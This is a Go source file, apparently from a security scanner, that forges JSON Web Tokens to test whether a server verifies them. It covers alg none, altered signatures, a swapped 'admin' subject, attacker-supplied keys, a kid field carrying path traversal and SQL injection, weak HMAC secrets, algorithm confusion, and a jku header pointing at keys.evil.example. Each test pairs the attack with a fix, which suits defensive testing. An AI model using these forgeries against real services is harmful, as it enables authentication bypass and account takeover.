package attack

import (
	"context"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"encoding/base64"
	"fmt"
	"math/big"
	"net"
	"strings"
	"sync/atomic"
	"time"
)

// This file is tokens that anybody can make who has seen a good one: none of them is signed with the good key.

func forgedAttacks() []Attack {
	return each(Attack{
		Group: "token", Refs: []string{"RFC 8725", "ASVS 9.1"}, Severity: Critical, Needs: NeedJWT,
		Why:    "the attacker writes tokens for any user",
		Fix:    "verify the signature first, with a key and an algorithm of the server's choice, never of the token's",
		Option: "RequireToken with OIDC, JWKS, StaticKeys or Secrets",
	},
		forged("token-none", "alg none in four spellings, without a signature", "CVE-2015-9235", func(j jwt, _ *Target) []string {
			var tokens []string
			for _, alg := range []string{"none", "None", "NONE", "nOnE"} {
				tokens = append(tokens, j.header.with(members{"alg": alg}).segment()+"."+j.parts[1]+".")
			}
			return tokens
		}),
		forged("token-unsigned", "the good token without its signature", "CVE-2020-28042", func(j jwt, _ *Target) []string {
			return []string{j.parts[0] + "." + j.parts[1] + ".", j.parts[0] + "." + j.parts[1]}
		}),
		forged("token-signature", "the good token with another signature", "ATTACKS J7", func(j jwt, _ *Target) []string {
			return []string{j.parts[0] + "." + j.parts[1] + "." + flipped(j.parts[2])}
		}),
		forged("token-signature-form", "the good signature in another form: zeros behind it, DER, half of it", "ATTACKS J7", func(j jwt, _ *Target) []string {
			signature, _ := base64.RawURLEncoding.DecodeString(j.parts[2])
			half := len(signature) / 2
			forms := [][]byte{append(signature[:len(signature):len(signature)], 0), append(make([]byte, 1), signature...), signature[:half]}
			if der, err := asn1.Marshal([]*big.Int{new(big.Int).SetBytes(signature[:half]), new(big.Int).SetBytes(signature[half:])}); err == nil {
				forms = append(forms, der)
			}
			var tokens []string
			for _, f := range forms {
				tokens = append(tokens, j.parts[0]+"."+j.parts[1]+"."+base64url(f))
			}
			return tokens
		}),
		forged("token-payload", "another subject under the good signature", "ATTACKS J7", func(j jwt, _ *Target) []string {
			return []string{j.parts[0] + "." + j.claims.with(members{"sub": "admin"}).segment() + "." + j.parts[2]}
		}),
		forged("token-later", "a later exp under the good signature", "ATTACKS J7", func(j jwt, _ *Target) []string {
			return []string{j.parts[0] + "." + j.claims.with(members{"exp": time.Now().Add(1000 * time.Hour).Unix()}).segment() + "." + j.parts[2]}
		}),
		forged("token-zero", "ES256 with a signature of zeros", "CVE-2022-21449", func(j jwt, _ *Target) []string {
			header := j.header.with(members{"alg": "ES256"})
			return []string{header.segment() + "." + j.parts[1] + "." + base64url(make([]byte, 64))}
		}),
		forged("token-own-key", "a key of the attacker in the header: jwk", "CVE-2018-0114", func(j jwt, _ *Target) []string {
			k := newOwnKey()
			return []string{
				k.sign(members{"alg": "ES256", "typ": "JWT", "jwk": k.jwk()}, j.claims),
				k.sign(j.header.with(members{"alg": "ES256", "jwk": k.jwk(), "kid": "own"}), j.claims),
			}
		}),
		forged("token-own-certificate", "a certificate of the attacker in the header: x5c", "CVE-2018-0114", func(j jwt, _ *Target) []string {
			k := newOwnKey()
			chain := []string{base64.StdEncoding.EncodeToString(selfSigned(k))}
			return []string{k.sign(j.header.with(members{"alg": "ES256", "x5c": chain, "kid": absent}), j.claims)}
		}),
		forged("token-kid-path", "a kid that names an empty file, and an empty HMAC key", "ATTACKS J5", func(j jwt, _ *Target) []string {
			header := j.header.with(members{"alg": "HS256", "kid": "../../../../../../dev/null"})
			return []string{keyed(header, j.claims, nil), keyed(header, j.claims, []byte{0})}
		}),
		forged("token-kid-query", "a kid with SQL that chooses the HMAC key", "ATTACKS J5", func(j jwt, _ *Target) []string {
			return []string{keyed(j.header.with(members{"alg": "HS256", "kid": "x' UNION SELECT 'own'-- "}), j.claims, []byte("own"))}
		}),
		forged("token-weak-secret", "HS256 with secrets that stand in every tutorial", "CWE-798", func(j jwt, _ *Target) []string {
			var tokens []string
			for _, secret := range []string{"secret", "your-256-bit-secret", "changeme", "password", ""} {
				tokens = append(tokens, keyed(members{"alg": "HS256", "typ": "JWT"}, j.claims, []byte(secret)))
			}
			return tokens
		}),
		need(NeedKeys, forged("token-confusion", "HS256 with the public key as its secret", "CVE-2016-5431", func(j jwt, t *Target) []string {
			var tokens []string
			for _, k := range t.PublicKeys {
				tokens = append(tokens, keyed(j.header.with(members{"alg": "HS256"}), j.claims, k))
			}
			return tokens
		})),
		lesser(Medium, forged("token-segments", "two, four and five segments, and only dots", "CVE-2025-30204", func(j jwt, _ *Target) []string {
			whole := strings.Join(j.parts[:], ".")
			return []string{whole + ".x", whole + ".x.x", "..", strings.Repeat(".", 8000)}
		})),
		lesser(Medium, forged("token-encrypted", "an encrypted token with a billion rounds of PBES2", "CVE-2023-49290", func(j jwt, _ *Target) []string {
			header := members{"alg": "PBES2-HS256+A128KW", "enc": "A128GCM", "p2c": 1_000_000_000, "p2s": "AAAAAAAAAAA", "zip": "DEF"}
			return []string{header.segment() + ".AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA.AAAAAAAAAAAAAAAA.AAAA.AAAAAAAAAAAAAAAAAAAAAA"}
		})),
		lesser(Medium, forged("token-json", "the good token in the JSON serialization of JWS", "CVE-2024-21664", func(j jwt, _ *Target) []string {
			flat := members{"payload": j.parts[1], "protected": j.parts[0], "signature": j.parts[2]}
			general := members{"payload": j.parts[1], "signatures": []members{{"protected": j.parts[0], "signature": j.parts[2]}}}
			return []string{string(flat.bytes()), string(general.bytes())}
		})),
		lesser(Medium, forged("token-padded", "the good token in another spelling: padding, blanks inside", "ATTACKS J11", func(j jwt, _ *Target) []string {
			whole := strings.Join(j.parts[:], ".")
			return []string{whole + "=", j.parts[0] + "=." + j.parts[1] + "." + j.parts[2], whole + "=="}
		})),
		lesser(Medium, forged("token-long", "a token of 40 KB", "CVE-2025-30204", func(j jwt, _ *Target) []string {
			return []string{j.parts[0] + "." + strings.Repeat("A", 40<<10) + "." + j.parts[2]}
		})),
		Attack{
			ID: "token-key-url", Title: "the address of a key set of the attacker in the header: jku, x5u", Refs: []string{"CVE-2018-0114", "CWE-918"},
			Fix: "never follow an address from a token", Run: keyURL,
		},
		Attack{
			ID: "token-oracle", Title: "answers that tell one bad token from another", Severity: Low, Refs: []string{"ATTACKS I3", "CWE-204"},
			Why: "the answers guide the attacker: which kid exists, whether only the signature is wrong, whether a stolen token was good once",
			Fix: "answer every bad token with the same status, headers and text", Option: "the default",
			Run: oracle,
		},
	)
}

// forged is an attack with tokens that are not signed by the good key.
func forged(id, title, ref string, forge func(jwt, *Target) []string) Attack {
	return Attack{ID: id, Title: title, Refs: []string{ref}, Run: func(ctx context.Context, t *Target) Verdict {
		j := t.jwt()
		t.ask(ctx, t.with(strings.Join(j.parts[:], "."))) // a server that has seen the good one may know it again by the wrong part
		return t.noneAdmitted(ctx, title, forge(j, t))
	}}
}

func need(n Need, a Attack) Attack {
	a.Needs |= n
	return a
}

func lesser(s Severity, a Attack) Attack {
	a.Severity = s
	return a
}

// noneAdmitted sends each token in the good one's place. The first that is admitted decides, else the first of which
// nothing can be said.
func (t *Target) noneAdmitted(ctx context.Context, sent string, tokens []string) Verdict {
	var verdict Verdict
	for i, token := range tokens {
		of := sent
		if len(tokens) > 1 {
			of = fmt.Sprintf("%s (variant %d of %d)", sent, i+1, len(tokens))
		}
		t.hide(token) // it holds the claims of a good one
		v := t.mustRefuseToken(ctx, of, t.with(token))
		if v.State == Broken {
			return v
		}
		if i == 0 || verdict.State == Held && v.State != Held {
			verdict = v
		}
	}
	return verdict
}

// flipped changes a character in the middle: the last one may hold spare bits.
func flipped(segment string) string {
	if segment == "" {
		return "AAAA"
	}
	b := []byte(segment)
	i := len(b) / 2
	b[i] = map[bool]byte{true: 'B', false: 'A'}[b[i] == 'A']
	return string(b)
}

func selfSigned(k ownKey) []byte {
	now := time.Now()
	c := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "own"}, NotBefore: now.Add(-time.Hour), NotAfter: now.Add(time.Hour)}
	der, err := x509.CreateCertificate(nil, c, c, k.private.Public(), k.private)
	if err != nil {
		panic(err)
	}
	return der
}

// keyURL counts who comes to the address in the token; a target elsewhere cannot reach us, so there the refusal decides.
func keyURL(ctx context.Context, t *Target) Verdict {
	address := "https://keys.evil.example/jwks.json"
	var visits atomic.Int32
	if t.loopback() {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			return unclear("", "", "no listener: %v", err)
		}
		defer l.Close()
		address = "http://" + l.Addr().String() + "/jwks.json"
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				visits.Add(1)
				c.Close()
			}
		}()
	}
	k, j := newOwnKey(), t.jwt()
	v := t.noneAdmitted(ctx, "jku or x5u: "+address, []string{
		k.sign(j.header.with(members{"alg": "ES256", "kid": "own", "jku": address}), j.claims),
		k.sign(j.header.with(members{"alg": "ES256", "kid": "own", "x5u": address}), j.claims),
		k.sign(members{"alg": "ES256", "jku": address}, j.claims),
	})
	sleep(ctx, 100*time.Millisecond)
	if n := visits.Load(); n > 0 {
		return broken("jku or x5u: "+address, fmt.Sprintf("%d connections to that address", n), "the server goes where a token sends it")
	}
	return v
}
